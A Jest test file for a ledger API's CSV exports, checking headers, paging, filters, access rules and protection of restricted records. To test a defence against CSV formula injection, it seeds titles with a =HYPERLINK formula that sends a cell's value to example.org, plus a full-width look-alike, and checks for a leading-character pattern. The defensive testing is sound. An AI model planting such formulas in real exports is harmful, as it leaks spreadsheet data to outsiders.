import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { csvRows } from '../support/csv-rows.js';
import type { OpenApi } from '../support/described-api.js';
import { ServedLedger } from '../support/served-ledger.js';
import { decisionOf, holdBoardMeeting, on, people } from '../support/story.js';
import {
  approvePlan,
  carryOutFirst,
  DRAFTED,
  type PlannedYear,
  plannedAction,
  tellToDraft,
} from '../support/story-plan.js';

const FORMULA = '=HYPERLINK("https://example.org?"&A1,"see here")';
const LOOK_ALIKE = '＝1+1';

describe('a list as a table', () => {
  let ledger: ServedLedger;
  let year: PlannedYear;
  let last: string;

  beforeAll(async () => {
    ledger = await ServedLedger.open();
    year = await tellToDraft(ledger);
    const chair = { ...on(DRAFTED), as: people.safetyChair };
    const propose = (number: number, title: string) =>
      ledger.done(
        `/v1/plans/${year.planId}/actions`,
        plannedAction(year, year.outcomeId, number, { title }),
        chair,
      );
    const third = await propose(3, FORMULA);
    const fourth = await propose(4, LOOK_ALIKE);
    for (const { id } of [third, fourth]) {
      await ledger.done(`/v1/plans/${year.planId}/actions/${id}/accept`, {}, chair);
    }
    await approvePlan(ledger, year);
    await carryOutFirst(ledger, year);
    const meeting = await holdBoardMeeting(ledger, year, '2022-01-22', 'In closed session');
    const decision = decisionOf(year, meeting, 1, { kind: 'note', text: 'Noted behind doors.' });
    const restricted = { ...decision, marking: 'restricted' };
    last = (await ledger.done('/v1/decisions', restricted, on('2022-01-22'))).position;
  });
  afterAll(() => ledger.close());

  const table = async (path: string, as = 'auditor') => {
    const response = await ledger.get(`${path}${path.includes('?') ? '&' : '?'}after=${last}`, {
      as,
    });
    expect([path, response.status, response.text.slice(0, 200)]).toEqual([
      path,
      200,
      expect.any(String),
    ]);
    return { ...response, headers: response.headers, rows: csvRows(response.text) };
  };
  const list = async (path: string, as = 'auditor') =>
    (await ledger.get(`${path}?limit=500&after=${last}`, { as })).body.items as readonly object[];

  it('is a file in CSV, in UTF-8', async () => {
    const { headers, text } = await table('/v1/actions.csv');
    expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(headers['content-disposition']).toBe('attachment; filename="actions.csv"');
    expect(headers['cache-control']).toBe('no-store');
    expect(headers['link']).toBeUndefined();
    expect(text.split('\r\n')[0]).toMatch(/^\uFEFF"revision","actionId","planId",/);
  });

  it('has a row for each record, and in it what the JSON says, both clocks and the event behind it', async () => {
    const { rows } = await table('/v1/actions.csv');
    const { body } = await ledger.get(`/v1/actions/${year.first}`, { as: 'auditor' });
    expect(rows).toHaveLength(4);
    expect(rows[0]).toMatchObject({
      actionId: year.first,
      reference: 'CS-2021-01',
      updateCount: String(body.updateCount),
      'proposed.eventId': body.proposed.eventId,
      'proposed.effectiveAt': body.proposed.effectiveAt,
      'proposed.recordedAt': body.proposed.recordedAt,
      'lastUpdate.progress': body.lastUpdate.progress,
      'lastUpdate.by': people.owner,
      'completion.verified.eventId': body.completion.verified.eventId,
      moves: '',
    });
  });

  it('holds no formula, whoever wrote it', async () => {
    const { rows } = await table('/v1/actions.csv');
    expect(rows.map(({ title }) => title).slice(2)).toEqual([`'${FORMULA}`, `'${LOOK_ALIKE}`]);
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+@＝\t]/.test(cell))).toEqual([]);
  });

  it('is filtered as the list is, and cut as it is', async () => {
    const references = async (query: string) =>
      (await table(`/v1/actions.csv?${query}`)).rows.map(({ reference }) => reference);
    expect(await references('rating=complete')).toEqual(['CS-2021-01']);
    expect(await references('asAt=2021-04-20')).toEqual([]);
    const [then] = (await table('/v1/actions.csv?asAt=2021-04-30')).rows;
    expect(then).toMatchObject({ stage: 'accepted', 'lastUpdate.progress': '' });
  });

  it('is asked for in parts with a limit, the link leading on', async () => {
    const first = await table('/v1/actions.csv?limit=3&planYear=2021/22');
    const link = /^<(.+)>; rel="next"$/.exec(first.headers['link'] ?? '')?.[1] ?? '';
    expect(link).toMatch(/^\/v1\/actions\.csv\?limit=3&planYear=2021%2F22&after=\d+&cursor=/);
    const rest = csvRows((await ledger.get(link, { as: 'auditor' })).text);
    expect([...first.rows, ...rest].map(({ reference }) => reference)).toEqual(
      [1, 2, 3, 4].map((number) => `CS-2021-0${number}`),
    );
  });

  it('keeps what is restricted from whoever is not cleared', async () => {
    const { rows, text } = await table('/v1/decisions.csv');
    expect(rows).toHaveLength((await list('/v1/decisions')).length);
    expect(text).not.toContain('Noted behind doors.');
    expect((await table('/v1/decisions.csv', 'secretariat')).text).toContain('Noted behind doors.');
  });

  it('is not given to strangers, nor for a wrong question: a problem is told as one', async () => {
    const refused = await ledger.get('/v1/actions.csv', { as: 'stranger' });
    expect([refused.status, refused.type, refused.body.code]).toEqual([
      403,
      'application/problem+json',
      'ACCESS.NOT_OF_THE_PARTNERSHIP',
    ]);
    const wrong = await ledger.get('/v1/actions.csv?rating=splendid');
    expect([wrong.status, wrong.body.faults[0].at]).toEqual([400, '/rating']);
    expect((await ledger.raw().get('/v1/actions.csv')).status).toBe(401);
    for (const path of [`/v1/actions/${year.first}.csv`, '/v1/actions.csv.csv']) {
      expect([path, (await ledger.get(path)).status]).toEqual([path, 404]);
    }
  });

  it('is there for every list, as described: a column for each field', async () => {
    const { paths } = (await ledger.raw().get('/openapi.json')).body as OpenApi;
    const tables = Object.keys(paths).filter((path) => path.endsWith('.csv'));
    expect(tables).toEqual(expect.arrayContaining(['/v1/actions.csv', '/v1/bodies.csv']));
    for (const path of tables.filter(
      (each) => !/\{|audit\/sample|summary|coverage|qaf\/(heatmap|changes|not-asked)/.test(each),
    )) {
      const { text, rows } = await table(path, 'secretariat');
      const header = text.slice(1).split('\r\n')[0] ?? '';
      const names = header.split(',').map((name) => name.slice(1, -1));
      expect([path, new Set(names).size]).toEqual([path, names.length]);
      const described = paths[path]?.['get']?.description ?? '';
      expect([path, described.split('Columns: ')[1]]).toEqual([path, `${names.join(', ')}.`]);
      const asList = path.replace('.csv', '');
      // What is answered at once has no pages, and knows no limit.
      const isPaged = paths[asList]?.['get']?.parameters?.some(({ name }) => name === 'limit');
      if (!isPaged) continue;
      expect([path, rows.length]).toEqual([path, (await list(asList, 'secretariat')).length]);
    }
  });
});
